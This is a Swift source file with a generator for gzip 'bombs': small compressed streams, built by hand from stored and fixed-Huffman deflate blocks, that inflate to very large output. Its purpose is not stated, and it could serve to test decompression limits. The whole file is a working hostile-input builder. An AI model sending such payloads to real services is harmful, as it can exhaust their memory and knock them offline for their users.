/// A small compressed body that inflates to a very large one.
public enum GzipBomb {
    /// - Parameters:
    ///   - opening: What the inflated body begins with.
    ///   - filler: What follows it, over and over.
    ///   - count: How often.
    /// - Returns: A gzip stream without its end, of about a 160th of the size.
    public static func bytes(opening: String = "", filler: Character, count: Int) -> [UInt8] {
        var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        // A stored block.
        let length = UInt16(opening.utf8.count)
        bytes += [0, UInt8(length & 0xFF), UInt8(length >> 8), UInt8(~length & 0xFF), UInt8(~length >> 8)]
        bytes += opening.utf8
        // A block with fixed codes: the filler once, and then "258 times what came last", which eight times fills whole bytes.
        var bits = BitWriter()
        bits.write(0b010, 3)
        bits.write(0b0011_0000 + Int(filler.asciiValue ?? 0x20), 8)
        for _ in 0..<16 { bits.write(0b1100_0101_00000, 13) }
        let period = Array(bits.bytes[2..<15])
        bytes += bits.bytes[..<2]
        bytes.reserveCapacity(bytes.count + count / 158)
        for _ in 0..<count / (8 * 258) { bytes += period }
        return bytes
    }

    /// Fills bytes from their lowest bit on.
    private struct BitWriter {
        var bytes: [UInt8] = []
        private var count = 0

        /// Writes the highest bit first.
        mutating func write(_ value: Int, _ width: Int) {
            for bit in (0..<width).reversed() {
                if count % 8 == 0 { bytes.append(0) }
                if value >> bit & 1 == 1 { bytes[bytes.count - 1] |= 1 << UInt8(count % 8) }
                count += 1
            }
        }
    }
}
